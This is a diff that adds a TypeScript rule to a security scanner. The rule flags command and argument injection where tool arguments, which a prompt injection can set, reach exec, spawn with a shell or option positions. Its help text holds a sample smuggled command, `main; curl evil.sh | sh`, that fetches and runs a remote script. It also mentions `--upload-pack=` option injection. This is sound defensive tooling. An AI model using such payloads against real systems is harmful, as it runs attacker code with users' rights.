@@ -1,0 +1,52 @@
+// command-injection: an untrusted value (tool argument, exported parameter,
+// HTTP request) becomes a shell command line, the program to run, or an
+// option of a program run without a shell.
+import type { GuardKind } from "../analyzer/taint/spec.js";
+import type { Rule } from "./types.js";
+import { argumentVectorRisk } from "./util/argument-vector.js";
+import { reportFlow, untrustedFlows } from "./util/untrusted-flows.js";
+
+/** What makes a value safe for a command line: pinning it to known values or a strict pattern. */
+const GUARDS: readonly GuardKind[] = ["literal-equality", "allow-list", "regex-match", "type-check", "sanitizer-call"];
+
+const SHELL_FIX = "Run the program with execFile/spawn and an argument array (no shell), put `--` before user-supplied operands, or allow-list the value.";
+const OPTION_FIX = "Put `--` before user-supplied operands, or reject values that start with `-` (an allow-list or a strict pattern).";
+
+export const commandInjection: Rule = {
+  meta: {
+    id: "command-injection",
+    title: "Command injection",
+    defaultSeverity: "critical",
+    threat: "prompt-injection",
+    cwe: [78, 88],
+    summary: "A tool argument becomes part of a shell command line or the program to run.",
+    description:
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium.",
+    help: [
+      "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
+      "",
+      "**How to fix.** Use `execFile`/`spawn` with an argument array and no shell; put `--` before user-supplied operands so they cannot be read as options; pin values with a zod enum or an allow-list.",
+      "",
+      "```ts",
+      "exec(`git checkout ${branch}`);                    // shell: injectable",
+      'execFile("git", ["checkout", "--", branch]);       // no shell, not an option',
+      "```",
+    ].join("\n"),
+    precision: "high",
+  },
+  check(ctx) {
+    for (const u of untrustedFlows(ctx, "command-injection", GUARDS)) {
+      const what = u.hit.argument === "Argument[0]" ? "as the command it runs" : "as part of a shell command line";
+      reportFlow(ctx, u, what, SHELL_FIX);
+    }
+    for (const u of untrustedFlows(ctx, "command-argument", GUARDS)) {
+      const risk = argumentVectorRisk(u.hit, ctx.taint);
+      if (risk.kind === "safe") continue;
+      if (risk.kind === "shell") {
+        reportFlow(ctx, u, `as the script of \`${risk.shell} -c\`, a shell command line`, SHELL_FIX, "critical", "shell");
+        continue;
+      }
+      reportFlow(ctx, u, "in its argument array, where a value starting with `-` is read as an option (argument injection)", OPTION_FIX, "medium", "option");
+    }
+  },
+};
